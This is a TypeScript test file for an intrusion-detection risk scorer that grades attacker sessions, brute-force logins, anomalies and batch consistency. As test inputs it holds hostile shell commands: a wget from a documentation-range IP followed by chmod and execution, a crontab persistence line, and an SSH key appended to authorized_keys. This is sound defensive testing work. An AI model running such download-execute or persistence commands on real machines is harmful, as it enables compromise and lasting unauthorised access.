import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import type { Context } from '../../src/core/effects.ts';
import type { DraftEvent } from '../../src/core/event.ts';
import type { SessionState } from '../../src/core/history.ts';
import type { Verdict } from '../../src/core/verdict.ts';
import { createBatchMemory } from '../../src/score/batch-memory.ts';
import { openLocalScorer } from '../../src/score/local.ts';
import { ask, command, draft, past } from '../support/score/events.ts';

const identity = { user_id: 'user-1', node_id: 'node-1' };

describe('sessions', () => {
  const scorer = openLocalScorer({ onWarning: assert.fail });

  function play(events: readonly DraftEvent[]): { verdicts: Verdict[]; session: SessionState } {
    let session: SessionState | null = null;
    const verdicts = events.map((event) => {
      const verdict = scorer.judge(ask(event, { session }));
      session = scorer.advance(session, event, verdict, identity);
      return verdict;
    });
    return { verdicts, session: session as unknown as SessionState };
  }
  const typed = (...lines: string[]): DraftEvent[] => lines.map((line) => command(line, { session: 's' }));

  it('rise as their story unfolds', () => {
    const { verdicts, session } = play(
      typed(
        'uname -a',
        'cd /tmp',
        'wget http://198.51.100.7/x',
        'chmod +x x',
        './x',
        'echo "* * * * * /tmp/x" | crontab',
      ),
    );
    const risks = verdicts.map(({ risk_score }) => risk_score);
    assert.ok(risks[0]! <= 5);
    assert.ok(risks[2]! >= 8);
    assert.ok(risks[5]! >= 9);
    assert.equal(session.risk_score, Math.max(...risks));
    assert.ok(verdicts[5]!.reasons.some((reason) => reason.includes('arranged to come back')));
  });

  it('that only look around stay below an alert', () => {
    const { session } = play(typed('uname -a', 'w', 'free -m', 'cat /proc/cpuinfo', 'df -h', 'ls -la'));
    assert.ok(session.risk_score >= 4 && session.risk_score <= 7);
    assert.equal(session.attack_type, 'Recon');
  });

  it('tell their story by statements, with a tactic each', () => {
    const { session } = play(
      typed('uname -a; cat /proc/cpuinfo | grep name', 'echo ssh-rsa AAAAB3Nza >> ~/.ssh/authorized_keys'),
    );
    assert.deepEqual(
      session.story.map(({ text }) => text),
      ['uname -a', 'cat /proc/cpuinfo', 'grep name', 'echo ssh-rsa AAAAB3Nza >> ~/.ssh/authorized_keys'],
    );
    assert.equal(session.story[0]!.tactic, 'Discovery');
    assert.equal(session.story[3]!.tactic, 'Persistence');
  });

  it('keep the first 20 steps and the latest 40', () => {
    const { session } = play(typed(...Array.from({ length: 90 }, (_, number) => `ls dir${number}`)));
    assert.equal(session.story.length, 60);
    assert.equal(session.story[0]!.text, 'ls dir0');
    assert.equal(session.story[59]!.text, 'ls dir89');
    assert.equal(session.commands, 90);
  });

  it('that guess a password and come in are worth an alert', () => {
    const guesses = Array.from({ length: 5 }, () => draft('login.failed', { session: 's' }));
    const { verdicts } = play([...guesses, draft('login.succeeded', { session: 's' })]);
    assert.equal(verdicts[5]!.attack_type, 'CredentialAccess');
    assert.ok(verdicts[5]!.risk_score >= 8);
  });
});

describe('sources', () => {
  const scorer = openLocalScorer({ onWarning: assert.fail });
  const first_ms = Date.parse('2026-11-25T07:20:00.000Z');
  const failures = (count: number): number =>
    scorer.judge(
      ask(draft('login.failed'), {
        history: past({ events: count - 1, failed_logins: count - 1, first_ms }),
      }),
    ).risk_score;

  it('that guess are alerts once they really guess, and not before', () => {
    assert.ok(failures(1) <= 5);
    assert.ok(failures(3) <= 7);
    assert.ok(failures(6) > 7);
    assert.ok(failures(500) >= failures(6));
  });

  it('that only connect are never alerts', () => {
    for (const count of [0, 10, 100, 10_000]) {
      const verdict = scorer.judge(
        ask(draft('connection.opened'), { history: past({ events: count, connections: count, first_ms }) }),
      );
      assert.ok(verdict.risk_score <= 5, `${count} connections: ${verdict.risk_score}`);
    }
  });

  it('far above the tenant’s ordinary level are anomalies, and within it are not', () => {
    const history = past({ events: 400, first_ms });
    const quiet = { mean_events: 4, deviation_events: 3, samples: 1_000 };
    const busy = { mean_events: 200, deviation_events: 150, samples: 1_000 };
    const judge = (baseline: typeof quiet) =>
      scorer.judge(ask(draft('connection.opened'), { history, baseline }));
    assert.equal(judge(quiet).is_anomaly, true);
    assert.equal(judge(busy).is_anomaly, false);
    assert.ok(judge(quiet).anomaly_score > judge(busy).anomaly_score);
  });
});

describe('batches', () => {
  const scorer = openLocalScorer({ onWarning: assert.fail });
  const events: DraftEvent[] = Array.from({ length: 60 }, (_, number) => {
    const timestamp = new Date(Date.parse('2026-11-25T08:00:00.000Z') + number * 20_000).toISOString();
    const more = { timestamp, session: `s${number % 3}`, source_ip: `203.0.113.${number % 2}` };
    return number % 4 === 3
      ? command(number % 8 === 3 ? 'wget http://198.51.100.7/x' : 'chmod +x x; ./x', more)
      : draft(number % 7 === 6 ? 'login.succeeded' : 'login.failed', more);
  });

  /** As the pipeline does it: the store's context is read at a batch's start and written at its end. */
  function inBatchesOf(size: number): Verdict[] {
    const stored: Context = {
      known: new Map(),
      windows: new Map(),
      sessions: new Map(),
      incidents: new Map(),
      merged: new Map(),
    };
    const remembered: Parameters<ReturnType<typeof createBatchMemory>['remember']>[0][] = [];
    const verdicts: Verdict[] = [];
    for (let from = 0; from < events.length; from += size) {
      const past = createBatchMemory(stored);
      for (const one of remembered) past.remember(one);
      for (const event of events.slice(from, from + size)) {
        const { source_ip: source, timestamp } = event;
        const session = past.session(identity.user_id, identity.node_id, event.session);
        const history = past.history(identity.user_id, source, timestamp);
        const verdict = scorer.judge({ event, history, session, baseline: null });
        verdicts.push(verdict);
        const step = {
          user: identity.user_id,
          source,
          timestamp,
          counts: scorer.toCounts(event, verdict),
          session: scorer.advance(session, event, verdict, identity),
        };
        past.remember(step);
        remembered.push(step);
      }
    }
    return verdicts;
  }

  it('do not change verdicts', () => {
    const whole = inBatchesOf(events.length);
    for (const size of [1, 7, 20]) assert.deepEqual(inBatchesOf(size), whole);
    assert.ok(whole.some(({ risk_score }) => risk_score >= 8));
  });
});
